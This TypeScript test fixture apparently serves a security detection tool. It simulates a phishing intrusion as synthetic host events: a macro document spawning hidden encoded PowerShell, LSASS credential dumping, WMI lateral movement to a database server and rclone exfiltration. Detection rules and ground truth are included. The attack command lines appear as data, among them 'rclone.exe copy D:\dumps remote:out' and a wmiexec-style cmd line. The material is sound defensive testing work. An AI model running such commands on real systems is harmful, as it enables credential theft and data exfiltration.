/** A mailed document starts PowerShell, dumps credentials, moves to a database server and carries data out. */
import { instant, MINUTE, SECOND } from "@cordon/model/time";
import {
  type Acting,
  connected,
  detected,
  entity,
  fileWritten,
  loggedOn,
  makeStory,
  processAccessed,
  processStarted,
  type Rule,
  type Scenario,
  type Story,
} from "./event-builder.ts";

const WS = "ws-042";
const DB = "srv-db";
const ALICE = "corp\\alice";
const ADMIN = "corp\\dbadmin";
const SYS = "C:\\Windows\\System32";
const EXPLORER = { guid: "e0000000-0000-0000-0000-000000000001", image: "C:\\Windows\\explorer.exe" };
const OUTLOOK = { guid: "e0000000-0000-0000-0000-000000000002", image: "C:\\Program Files\\Office\\OUTLOOK.EXE" };
const WORD = { guid: "e0000000-0000-0000-0000-000000000003", image: "C:\\Program Files\\Office\\WINWORD.EXE" };
const SHELL = {
  guid: "e0000000-0000-0000-0000-000000000004",
  image: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`,
};
const TOOL = { guid: "e0000000-0000-0000-0000-000000000005", image: "C:\\Users\\alice\\AppData\\Local\\Temp\\upd.exe" };
const LSASS = { guid: "e0000000-0000-0000-0000-000000000006", image: `${SYS}\\lsass.exe` };
const WMI = { guid: "d0000000-0000-0000-0000-000000000001", image: `${SYS}\\wbem\\WmiPrvSE.exe` };
const CMD = { guid: "d0000000-0000-0000-0000-000000000002", image: `${SYS}\\cmd.exe` };
const RCLONE = { guid: "d0000000-0000-0000-0000-000000000003", image: "C:\\ProgramData\\rclone.exe" };

export function windowsPhishing(startMs = Date.UTC(2026, 4, 12, 8, 0)): Scenario {
  const story = makeStory(`windows-phishing ${startMs}`);
  background(story, startMs);
  const at = startMs + 60 * MINUTE;
  const onWs = { host: WS, user: ALICE, luid: "0x51a2c" };
  const acting = (offset: number, what: { guid: string; image: string }): Acting => ({
    ...{ at: at + offset, host: WS, user: ALICE },
    ...what,
  });
  processStarted(story, {
    ...{ at, ...onWs, ...WORD, parent: OUTLOOK },
    command:
      '"WINWORD.EXE" /n "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2\\invoice.docm"',
  });
  const shell = processStarted(story, {
    ...{ at: at + 10 * SECOND, ...onWs, ...SHELL, parent: WORD },
    command: "powershell.exe -nop -w hidden -enc SQBFAFgA",
  });
  connected(story, acting(12 * SECOND, SHELL), { from: "10.1.4.42", address: "203.0.113.77", port: 443 });
  fileWritten(story, acting(20 * SECOND, SHELL), TOOL.image);
  processStarted(story, { at: at + 30 * SECOND, ...onWs, ...TOOL, parent: SHELL, command: "upd.exe -s" });
  const dump = processAccessed(story, acting(60 * SECOND, TOOL), LSASS);
  connected(story, acting(5 * MINUTE, TOOL), { from: "10.1.4.42", address: "10.1.9.10", port: 135 });
  const there = at + 5 * MINUTE + SECOND;
  loggedOn(story, { at: there, host: DB, user: ADMIN, luid: "0xabc01", type: 3, address: "10.1.4.42" });
  const onDb = { host: DB, user: ADMIN, luid: "0xabc01" };
  const cmd = processStarted(story, {
    ...{ at: there + 2 * SECOND, ...onDb, ...CMD, parent: WMI },
    command: "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1",
  });
  processStarted(story, {
    ...{ at: there + MINUTE, ...onDb, ...RCLONE, parent: CMD },
    command: "rclone.exe copy D:\\dumps remote:out",
  });
  const out = connected(
    story,
    { at: there + 2 * MINUTE, host: DB, user: ADMIN, ...RCLONE },
    { from: "10.1.9.10", address: "198.51.100.9", port: 443 },
  );
  return {
    events: story.events,
    detections: [
      detected(RULES.office, [shell]),
      detected(RULES.lsass, [dump]),
      detected(RULES.wmi, [cmd]),
      detected(RULES.exfil, [out]),
    ],
    truth: {
      roots: [`process:${WS}|${WORD.guid}`, `process:${WS}|${OUTLOOK.guid}`],
      boundary: "mail-attachment",
      hosts: [WS, DB],
      accounts: [ALICE, ADMIN],
      addresses: ["203.0.113.77", "198.51.100.9"],
    },
    end: instant(there + 10 * MINUTE),
  };
}

const RULES = {
  office: {
    ...{ id: "r-office-shell", title: "Office program starts PowerShell", level: "high" as const },
    ...{ techniques: ["T1566.001", "T1059.001"], tactics: ["initial-access", "execution"] },
  },
  lsass: {
    ...{ id: "r-lsass", title: "Process reads LSASS memory", level: "high" as const },
    ...{ techniques: ["T1003.001"], tactics: ["credential-access"] },
  },
  wmi: {
    ...{ id: "r-wmi-shell", title: "WMI provider starts a shell", level: "high" as const },
    ...{ techniques: ["T1047"], tactics: ["lateral-movement"] },
  },
  exfil: {
    ...{ id: "r-rclone", title: "Copy tool sends data to a web service", level: "high" as const },
    ...{ techniques: ["T1567"], tactics: ["exfiltration"] },
  },
} satisfies Record<string, Rule>;

/** The same morning on the same and on other machines: nothing of it belongs to the attack. */
function background(story: Story, startMs: number): void {
  const onWs = { host: WS, user: ALICE, luid: "0x51a2c" };
  loggedOn(story, { at: startMs, host: WS, user: ALICE, luid: "0x51a2c", type: 2, address: "127.0.0.1" });
  processStarted(story, {
    ...{ at: startMs + SECOND, ...onWs, ...EXPLORER, command: "explorer.exe" },
    parent: { guid: "e0000000-0000-0000-0000-0000000000aa", image: `${SYS}\\userinit.exe` },
  });
  processStarted(story, { at: startMs + MINUTE, ...onWs, ...OUTLOOK, parent: EXPLORER, command: "OUTLOOK.EXE" });
  for (let i = 0; i < 20; i += 1) {
    const guid = `e0000000-0000-0000-0001-${String(i).padStart(12, "0")}`;
    const chrome = { guid, image: "C:\\Program Files\\Google\\Chrome\\chrome.exe" };
    const at = startMs + i * 5 * MINUTE;
    processStarted(story, { at, ...onWs, ...chrome, parent: EXPLORER, command: `chrome.exe --tab ${i}` });
    connected(
      story,
      { at: at + SECOND, host: WS, user: ALICE, ...chrome },
      { from: "10.1.4.42", address: `93.184.216.${i + 1}`, port: 443 },
    );
  }
  for (let i = 0; i < 10; i += 1) {
    const at = startMs + i * 7 * MINUTE;
    loggedOn(story, { at, host: DB, user: "corp\\app", luid: `0x77${i}`, type: 3, address: "10.1.5.5" });
    story.add({
      ...{ at: at + SECOND, source: "windows.security", class: 3002, activity: 2, outcome: "success" },
      raw: { EventID: 4634, Computer: DB, TargetUserName: "corp\\app", TargetLogonId: `0x77${i}` },
      entities: [entity("host", "device", DB), entity("user", "target", "corp\\app")],
    });
  }
}
